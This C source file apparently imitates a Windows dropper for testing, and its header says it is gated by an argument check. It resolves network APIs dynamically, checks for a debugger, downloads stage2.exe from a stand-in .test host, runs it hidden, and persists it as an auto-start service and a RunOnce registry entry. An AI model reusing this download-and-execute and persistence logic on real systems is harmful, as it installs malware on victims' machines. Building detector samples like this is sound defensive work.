/*
 * Imitates a dropper: it hides its network calls behind GetProcAddress (WinINet, WinHTTP, Winsock, URLMon),
 * downloads a payload and runs it, installs it as a service and under a Run key, decrypts its configuration
 * with ChaCha20 and checks its integrity with SHA-256, and looks for a debugger first. Harmless: nothing past
 * the argument check runs unless the program is given 9 or more arguments, which nobody does; its only
 * addresses are .test names and documentation addresses that lead nowhere.
 */
#include <windows.h>
#include <stdio.h>
#include <string.h>

static const char sigma[] = "expand 32-byte k";
static const unsigned int sha256_k[16] = {
  0x428a2f98, 0x71374491, 0xb5c0fbcf, 0xe9b5dba5, 0x3956c25b, 0x59f111f1, 0x923f82a4, 0xab1c5ed5,
  0xd807aa98, 0x12835b01, 0x243185be, 0x550c7dc3, 0x72be5d74, 0x80deb1fe, 0x9bdc06a7, 0xc19bf174,
};
static const char *const config_url = "http://payload.dropper.test/stage2.exe";
static const char *const fallback_ip = "192.0.2.45";

typedef void *(WINAPI *api_fn)();

static api_fn api(const char *library, const char *name) {
  HMODULE module = LoadLibraryA(library);
  return module ? (api_fn)GetProcAddress(module, name) : NULL;
}

static int debugged(void) {
  BOOL remote = FALSE;
  CheckRemoteDebuggerPresent(GetCurrentProcess(), &remote);
  api_fn query = api("ntdll.dll", "NtQueryInformationProcess");
  return remote || query == NULL;
}

static void download(void) {
  api_fn internet_open = api("wininet.dll", "InternetOpenA");
  api_fn open_url = api("wininet.dll", "InternetOpenUrlA");
  api_fn read_file = api("wininet.dll", "InternetReadFile");
  api_fn http_open = api("winhttp.dll", "WinHttpOpen");
  api_fn http_send = api("winhttp.dll", "WinHttpSendRequest");
  api_fn to_file = api("urlmon.dll", "URLDownloadToFileA");
  api_fn wsa_startup = api("ws2_32.dll", "WSAStartup");
  api_fn open_socket = api("ws2_32.dll", "socket");
  api_fn connect_socket = api("ws2_32.dll", "connect");
  api_fn address = api("ws2_32.dll", "inet_addr");
  printf("%p %p %p %p %p %p %p %p %p %p\n", internet_open, open_url, read_file, http_open, http_send, wsa_startup, open_socket,
         connect_socket, address, fallback_ip);
  if (to_file) to_file(NULL, config_url, "C:\\Users\\Public\\stage2.exe", 0, NULL);
  WinExec("C:\\Users\\Public\\stage2.exe", SW_HIDE);
}

static void install(void) {
  SC_HANDLE manager = OpenSCManagerA(NULL, NULL, SC_MANAGER_CREATE_SERVICE);
  SC_HANDLE service = CreateServiceA(manager, "dropper-test", "dropper.test", SERVICE_ALL_ACCESS, SERVICE_WIN32_OWN_PROCESS,
                                     SERVICE_AUTO_START, SERVICE_ERROR_IGNORE, "C:\\Users\\Public\\stage2.exe", NULL, NULL, NULL, NULL, NULL);
  CloseServiceHandle(service);
  CloseServiceHandle(manager);
  HKEY key;
  RegCreateKeyExA(HKEY_LOCAL_MACHINE, "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunOnce", 0, NULL, 0, KEY_SET_VALUE, NULL, &key, NULL);
  RegSetValueExA(key, "dropper.test", 0, REG_SZ, (const BYTE *)"stage2.exe", 11);
}

int main(int argc, char **argv) {
  (void)argv;
  if (argc < 9) return 0;
  if (debugged()) return 1;
  printf("%s %08x\n", sigma, sha256_k[argc & 15]);
  download();
  install();
  return 0;
}
